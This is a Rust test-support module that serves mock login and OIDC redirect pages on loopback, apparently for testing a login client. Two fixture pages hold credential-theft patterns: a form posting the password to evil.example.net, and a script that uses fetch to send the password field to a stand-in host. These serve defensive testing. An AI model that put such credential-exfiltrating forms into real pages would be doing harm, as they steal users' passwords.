//! A small provider whose pages are scripts.

use std::io;
use std::net::{Ipv4Addr, SocketAddr};
use std::sync::{Arc, Mutex};

use axum::Router;
use axum::extract::Request;
use axum::http::{StatusCode, header};
use axum::response::{Html, IntoResponse as _, Redirect, Response};
use oidc_compat::totp::Totp;
use tokio::net::{TcpListener, TcpStream};
use tokio_rustls::TlsAcceptor;
use tokio_rustls::server::TlsStream;

use super::{PASSWORD, REDIRECT_URI};

/// A site, and what it was asked.
pub struct Site {
    pub port: u16,
    asked: Arc<Mutex<Vec<String>>>,
}

impl Site {
    /// Serves the pages on a free port of the loopback.
    pub async fn start() -> Self {
        let (site, listener) = Self::bind().await;
        tokio::spawn(axum::serve(listener, site.router()).into_future());
        site
    }

    /// The same over TLS.
    pub async fn start_tls(acceptor: TlsAcceptor) -> Self {
        let (site, listener) = Self::bind().await;
        tokio::spawn(axum::serve(Tls { listener, acceptor }, site.router()).into_future());
        site
    }

    async fn bind() -> (Self, TcpListener) {
        let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).await.unwrap();
        let port = listener.local_addr().unwrap().port();
        (Self { port, asked: Arc::default() }, listener)
    }

    fn router(&self) -> Router {
        let asked = Arc::clone(&self.asked);
        Router::new().fallback(move |request: Request| serve(request, Arc::clone(&asked)))
    }

    /// The address of a page.
    pub fn url(&self, path: &str) -> String {
        format!("http://127.0.0.1:{}{path}", self.port)
    }

    /// Method, path and body of everything that was asked for.
    pub fn asked(&self) -> Vec<String> {
        self.asked.lock().unwrap().clone()
    }
}

async fn serve(request: Request, asked: Arc<Mutex<Vec<String>>>) -> Response {
    let path = request.uri().path().to_owned();
    let query = request.uri().query().unwrap_or_default().to_owned();
    let cookies = request.headers().get(header::COOKIE).and_then(|c| c.to_str().ok()).unwrap_or_default().to_owned();
    let method = request.method().clone();
    let body = axum::body::to_bytes(request.into_body(), 1 << 20).await.unwrap_or_default();
    let body = String::from_utf8_lossy(&body).into_owned();
    asked.lock().unwrap().push(format!("{method} {path} {body}"));
    match (method.as_str(), path.as_str()) {
        ("POST", "/api/login") => {
            let sent: serde_json::Value = serde_json::from_str(&body).unwrap_or_default();
            let now = oidc_compat::http::now_ms() / 1000;
            let coded = || [now, now - 30].iter().any(|at| sent["code"] == totp().code(*at));
            let good = sent["user"] == "zoë" && sent["password"] == PASSWORD && (sent["code"].is_null() || coded());
            let status = if good { StatusCode::OK } else { StatusCode::UNAUTHORIZED };
            (status, [(header::SET_COOKIE, "sid=one; Path=/; HttpOnly; SameSite=Lax")], "{}").into_response()
        }
        ("POST", "/form") => Redirect::to(&format!("{REDIRECT_URI}#code=fragment&state=s")).into_response(),
        (_, "/query") => Redirect::to(&format!("{REDIRECT_URI}?code=a%2fb&state=s&cookies={cookies}")).into_response(),
        (_, "/never") => std::future::pending().await,
        (_, "/missing.js") => StatusCode::NOT_FOUND.into_response(),
        (_, name) => match page(name, &query) {
            Some(page) => Html(page).into_response(),
            None => (StatusCode::NOT_FOUND, Html("<h1>Not found</h1>")).into_response(),
        },
    }
}

/// The authenticator app of the account.
pub fn totp() -> Totp {
    Totp::parse("JBSWY3DPEHPK3PXP").unwrap()
}

fn page(name: &str, query: &str) -> Option<String> {
    let inside = match name {
        // Everything comes late: the form after an answer, its way on after another.
        "/script" => include_str!("pages/script.html").replace("REDIRECT_URI", REDIRECT_URI),
        "/two-steps" => include_str!("pages/two_steps.html").replace("REDIRECT_URI", REDIRECT_URI),
        "/form-post" => format!(
            "<form method=post action='{REDIRECT_URI}'><input type=hidden name=code value='p ö&amp;st'>\
             <input type=hidden name=state value=s></form><script>onload = () => document.forms[0].submit()</script>"
        ),
        "/replace" => format!("<script>fetch('/late').then(() => location.replace('{REDIRECT_URI}?code=js&state=s'))</script>"),
        "/plain-form" => "<form method=post action=/form><input name=user><input type=password name=password>\
                          <button>Sign in</button></form>"
            .to_owned(),
        "/form-elsewhere" => "<form method=post action='https://evil.example.net/'><input name=user>\
                              <input type=password name=password><button>Sign in</button></form>"
            .to_owned(),
        "/script-elsewhere" => format!(
            "<form onsubmit='fetch(`http://stranger.example:{query}/`, {{method: `POST`, mode: `no-cors`, body: password.value}}); return false'>\
             <input name=user><input type=password name=password id=password><button>Sign in</button></form>"
        ),
        "/dead-button" => "<form onsubmit='return false'><input name=user><input type=password name=password>\
                           <button>Sign in</button></form>"
            .to_owned(),
        "/broken" => "<p>Loading ...</p><script src=/missing.js></script>".to_owned(),
        "/to-app" => format!("<script>location = '{REDIRECT_URI}'.replace('/apps/user_oidc/code', '/login')</script>"),
        "/name-again" => include_str!("pages/name_again.html").replace("REDIRECT_URI", REDIRECT_URI),
        "/two-factors" => include_str!("pages/two_factors.html").replace("REDIRECT_URI", REDIRECT_URI),
        "/passkeys" => include_str!("pages/passkeys.html").replace("REDIRECT_URI", REDIRECT_URI),
        "/late" => "late".to_owned(),
        _ => return None,
    };
    Some(format!("<!doctype html><meta charset=utf-8><title>{name}</title><body>{inside}"))
}

/// A listener whose connections begin with a handshake; those that fail are dropped.
struct Tls {
    listener: TcpListener,
    acceptor: TlsAcceptor,
}

impl axum::serve::Listener for Tls {
    type Io = TlsStream<TcpStream>;
    type Addr = SocketAddr;

    async fn accept(&mut self) -> (Self::Io, Self::Addr) {
        loop {
            if let Ok((stream, address)) = self.listener.accept().await
                && let Ok(stream) = self.acceptor.accept(stream).await
            {
                return (stream, address);
            }
        }
    }

    fn local_addr(&self) -> io::Result<Self::Addr> {
        self.listener.local_addr()
    }
}
